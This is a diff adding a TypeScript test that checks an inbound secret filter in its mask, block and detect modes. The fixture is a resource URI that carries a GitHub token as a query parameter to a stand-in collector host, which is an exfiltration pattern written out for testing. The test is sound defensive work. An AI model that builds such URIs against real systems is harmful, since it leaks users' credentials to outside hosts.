@@ -248,6 +248,36 @@ describe('inbound mask and block through wrap', () => {
     }
   });
 
+  it('a resource URI carrying a secret out: mask rewrites it, block refuses it, detect counts it', async () => {
+    const uri = `https://collector.example.test/c?d=${pat}`;
+    for (const inbound of ['mask', 'block', 'detect']) {
+      const lane = await wrapLane(inbound);
+      const c = await connectClient('v1', lane.target());
+      const outcome = await c.readResource(uri).then(
+        () => 'read',
+        (e: { code?: number }) => `error ${e.code}`,
+      );
+      await c.close();
+      const got = readLog(lane.leakLog);
+      const store = new AuditStore(lane.db, { readonly: true });
+      const ev = query(store, { event: 'exchange' }).find((e) => e.method === 'resources/read')!;
+      store.close();
+      expect(JSON.parse(ev.extra ?? '{}')['inbound_redactions'], inbound).toEqual({ 'github-pat': 1 });
+      expect(ev.target, inbound).toBe('https://collector.example.test/c?d=[REDACTED:github-pat]');
+      if (inbound === 'mask') {
+        expect(outcome).toBe('read');
+        expect(got).toContain('resources/read https://collector.example.test/c?d=[REDACTED:github-pat]');
+        expect(got).not.toContain(pat);
+      } else if (inbound === 'block') {
+        expect(outcome).toBe('error -32015');
+        expect(got).not.toContain('resources/read');
+      } else {
+        expect(outcome).toBe('read');
+        expect(got).toContain(`resources/read ${uri}`);
+      }
+    }
+  });
+
   it('mask: a long argument (its received bytes kept for the prefilter) is masked too', async () => {
     const lane = await wrapLane('mask');
     const c = await connectClient('v1', lane.target());
